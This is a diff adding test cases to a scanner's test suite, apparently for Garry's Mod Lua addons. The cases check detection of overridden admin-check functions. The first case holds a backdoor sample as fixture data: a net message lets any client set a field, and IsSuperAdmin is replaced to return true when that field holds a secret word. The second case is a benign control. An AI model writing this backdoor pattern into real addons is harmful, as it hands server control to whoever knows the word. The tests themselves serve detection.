@@ -78,4 +78,26 @@ describe('superadmin', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('IsSuperAdmin replaced to say yes when a field a net message sets holds a secret word', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'util.AddNetworkString("HUDPrefs_Set")',
+        'net.Receive("HUDPrefs_Set", function(len, ply) ply.hudPref = net.ReadString() end)',
+        'local meta = FindMetaTable("Player")',
+        'local orig = meta.IsSuperAdmin',
+        'meta.IsSuperAdmin = function(self) if self.hudPref == "compact_dark_v2" then return true end return orig(self) end',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.critical);
+  });
+  it('IsAdmin replaced to read a rank the server stored itself', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local meta = FindMetaTable("Player")',
+        'hook.Add("PlayerInitialSpawn", "rank", function(ply) ply.staffRank = ply:GetPData("rank", "user") end)',
+        'function meta:IsAdmin() return self.staffRank == "admin" or self:IsSuperAdmin() end',
+      ].join('\n'),
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
 });
